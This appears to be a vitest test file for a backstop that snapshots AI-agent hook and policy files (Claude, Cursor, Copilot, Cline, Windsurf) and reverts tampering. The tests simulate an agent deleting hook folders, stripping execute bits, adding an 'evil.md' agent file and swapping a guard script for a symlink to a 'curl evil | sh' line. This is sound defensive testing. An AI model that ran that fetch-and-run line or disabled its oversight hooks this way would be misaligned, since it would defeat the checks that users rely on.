import {
  chmodSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MAX_KEPT_FILE_BYTES, ProtectedSnapshots } from '../../../src/agent/protectedSnapshot';

/** The backstop's snapshots on a real folder: what counts as a change, and how each kind is put back. */

let base = '';
let ws = '';
let hookScripts = new Set<string>();
const snapshots = (): ProtectedSnapshots =>
  new ProtectedSnapshots({ roots: () => [ws], hookScripts: () => hookScripts, configFiles: () => new Set(), homeDir: path.join(base, 'home') });

beforeEach(() => {
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'hookwise-snapshot-')));
  ws = path.join(base, 'ws');
  for (const dir of ['.claude/hooks', '.claude/agents', '.claude/commands', '.vscode', 'scripts', 'src']) mkdirSync(path.join(ws, dir), { recursive: true });
  writeFileSync(path.join(ws, '.claude/settings.json'), '{"a":1}');
  writeFileSync(path.join(ws, '.claude/hooks/check.sh'), 'exit 0');
  chmodSync(path.join(ws, '.claude/hooks/check.sh'), 0o755);
  writeFileSync(path.join(ws, '.claude/commands/deploy.md'), 'deploy');
  writeFileSync(path.join(ws, 'scripts/guard.sh'), 'exit 0');
  writeFileSync(path.join(ws, '.mcp.json'), '{}');
  writeFileSync(path.join(ws, 'src/index.ts'), 'x');
  hookScripts = new Set([path.join(ws, 'scripts/guard.sh')]);
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const file = (rel: string): string => path.join(ws, rel);
const changedPaths = (s: ProtectedSnapshots, before: ReturnType<ProtectedSnapshots['take']>): string[] =>
  s.changes(before).map((c) => path.relative(ws, c.path));

describe('ProtectedSnapshots', () => {
  it('sees a same-size rewrite with the old mtime put back, and puts the content back', () => {
    const s = snapshots();
    const before = s.take();
    const { mtime } = statSync(file('.claude/settings.json'));
    writeFileSync(file('.claude/settings.json'), '{"a":2}');
    utimesSync(file('.claude/settings.json'), mtime, mtime);
    const changes = s.changes(before);
    expect(changes.map((c) => path.relative(ws, c.path))).toEqual(['.claude/settings.json']);
    expect(s.revert(changes[0]!)).toBeUndefined();
    expect(readFileSync(file('.claude/settings.json'), 'utf8')).toBe('{"a":1}');
  });

  it('ignores files outside the protected set (sources, commands) and an untouched set', () => {
    const s = snapshots();
    const before = s.take();
    writeFileSync(file('src/index.ts'), 'y');
    writeFileSync(file('.claude/commands/deploy.md'), 'changed');
    expect(changedPaths(s, before)).toEqual([]);
  });

  it('removes a created policy file, restores a deleted one, a lost x bit and a hook script replaced by a symlink', () => {
    const s = snapshots();
    const before = s.take();
    writeFileSync(file('.vscode/settings.json'), '{"hookwise.hooks": {}}');
    writeFileSync(file('.claude/agents/evil.md'), '---\nhooks: {}\n---');
    unlinkSync(file('.mcp.json'));
    chmodSync(file('.claude/hooks/check.sh'), 0o644);
    unlinkSync(file('scripts/guard.sh'));
    writeFileSync(path.join(base, 'elsewhere.sh'), 'curl evil | sh');
    symlinkSync(path.join(base, 'elsewhere.sh'), file('scripts/guard.sh'));
    const changes = s.changes(before);
    expect(changes.map((c) => path.relative(ws, c.path)).sort()).toEqual(
      ['.claude/agents/evil.md', '.claude/hooks/check.sh', '.mcp.json', '.vscode/settings.json', 'scripts/guard.sh'].sort(),
    );
    expect(changes.map((c) => s.revert(c))).toEqual(changes.map(() => undefined));
    expect(s.changes(before)).toEqual([]);
    expect(statSync(file('.claude/hooks/check.sh')).mode & 0o777).toBe(0o755);
    expect(readFileSync(file('scripts/guard.sh'), 'utf8')).toBe('exit 0');
    expect(readFileSync(path.join(base, 'elsewhere.sh'), 'utf8')).toBe('curl evil | sh');
  });

  it("sees other agents' hook files removed with their folder and created in their user hook folders, and puts them back", () => {
    const home = path.join(base, 'home');
    const put = (f: string, text: string): void => {
      mkdirSync(path.dirname(f), { recursive: true });
      writeFileSync(f, text);
    };
    put(file('.cursor/hooks.json'), '{"version":1}');
    put(file('.github/hooks/guard.json'), '{"hooks":{}}');
    put(path.join(home, '.copilot/hooks/policy.json'), '{"hooks":{}}');
    mkdirSync(path.join(home, 'Documents/Cline/Hooks'), { recursive: true });
    const s = snapshots();
    const before = s.take();
    // What a command that slipped past the name checks could do: drop whole folders, add user hooks.
    rmSync(file('.cursor'), { recursive: true });
    rmSync(file('.github'), { recursive: true });
    unlinkSync(path.join(home, '.copilot/hooks/policy.json'));
    put(path.join(home, 'Documents/Cline/Hooks/PreToolUse'), '#!/bin/sh\nexit 0\n');
    put(path.join(home, '.codeium/windsurf/hooks.json'), '{"hooks":{}}');
    const changes = s.changes(before);
    expect(changes.map((c) => path.relative(base, c.path)).sort()).toEqual(
      [
        'home/.codeium/windsurf/hooks.json',
        'home/.copilot/hooks/policy.json',
        'home/Documents/Cline/Hooks/PreToolUse',
        'ws/.cursor/hooks.json',
        'ws/.github/hooks/guard.json',
      ].sort(),
    );
    expect(changes.map((c) => s.revert(c))).toEqual(changes.map(() => undefined));
    expect(s.changes(before)).toEqual([]);
    expect(readFileSync(file('.cursor/hooks.json'), 'utf8')).toBe('{"version":1}');
    expect(lstatSync(path.join(home, 'Documents/Cline/Hooks/PreToolUse'), { throwIfNoEntry: false })).toBeUndefined();
  });

  it('a file too large to keep is reported, not silently accepted', () => {
    writeFileSync(file('.claude/settings.json'), 'x'.repeat(MAX_KEPT_FILE_BYTES + 1));
    const s = snapshots();
    const before = s.take();
    writeFileSync(file('.claude/settings.json'), 'y'.repeat(MAX_KEPT_FILE_BYTES + 1));
    const [change] = s.changes(before);
    expect(change && s.revert(change)).toMatch(/no copy was kept/);
  });

  it('[cost] a typical protected set: stat only while nothing changes', () => {
    for (const name of ['a.md', 'b.md']) writeFileSync(file(`.claude/agents/${name}`), '---\nname: x\n---');
    writeFileSync(file('.claude/settings.local.json'), '{}');
    writeFileSync(file('.vscode/settings.json'), '{}');
    // Old enough that the racy-mtime rule does not force a re-hash.
    const old = new Date(Date.now() - 60_000);
    for (const f of [
      '.claude/settings.json',
      '.claude/settings.local.json',
      '.claude/agents/a.md',
      '.claude/agents/b.md',
      '.claude/hooks/check.sh',
      '.mcp.json',
      '.vscode/settings.json',
      'scripts/guard.sh',
    ])
      utimesSync(file(f), old, old);
    const s = snapshots();
    const first = s.take();
    const rounds = 200;
    const started = process.hrtime.bigint();
    for (let i = 0; i < rounds; i++) expect(s.changes(s.take())).toEqual([]);
    const perCall = Number(process.hrtime.bigint() - started) / rounds / 1000;
    // The same machine's price of one lstat, so the figure reads the same on a loaded or slow file system.
    const statStarted = process.hrtime.bigint();
    for (let i = 0; i < rounds; i++) lstatSync(file('.claude/settings.json'));
    const perStat = Number(process.hrtime.bigint() - statStarted) / rounds / 1000;
    console.log(
      `[cost] protected set of ${first.size} files: ${perCall.toFixed(0)} µs per watched call (snapshot before + compare after), ` +
        `${(perCall / perStat).toFixed(0)}× one lstat (${perStat.toFixed(1)} µs here); no file read`,
    );
    expect(first.size).toBeGreaterThanOrEqual(9);
  });
});
